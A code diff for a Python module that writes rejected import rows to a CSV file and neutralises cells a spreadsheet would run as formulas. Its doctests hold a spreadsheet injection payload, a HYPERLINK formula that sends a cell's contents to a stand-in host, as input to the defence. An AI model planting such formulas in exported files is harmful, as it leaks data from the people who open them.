@@ -1,6 +1,6 @@
 """The rejects file: every rejected row as it was read, with its row number and the reason first
 (UTF-8 with BOM, Chinese headers), written into the import's transaction so it lands with the store.
-Cells a spreadsheet would evaluate (``= + - @``, tab, CR first) are neutralised with a leading quote."""
+Cells a spreadsheet would evaluate (``= + - @``, tab, CR, LF first: :mod:`chainmap.safe`) are neutralised with a leading quote."""
 
 from __future__ import annotations
 
@@ -8,11 +8,10 @@ import csv
 from pathlib import Path
 from typing import Any
 
+from ..safe import neutralise
 from .store import Transaction
 
 __all__ = ["Rejects", "neutral"]
-
-_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
 
 
 def neutral(value: Any) -> str:
@@ -22,11 +21,12 @@ def neutral(value: Any) -> str:
     --------
     >>> neutral('=HYPERLINK("http://x/?d="&A1,"点此")')[:3], neutral("-5"), neutral(None), neutral(12)
     ("'=H", "'-5", '', '12')
+    >>> neutral("\\n=1+1"), neutral("＠SUM(1)")
+    ("'\\n=1+1", "'＠SUM(1)")
     """
     if value is None:
         return ""
-    s = str(value)
-    return "'" + s if s.startswith(_FORMULA_START) else s
+    return neutralise(str(value))
 
 
 class Rejects:
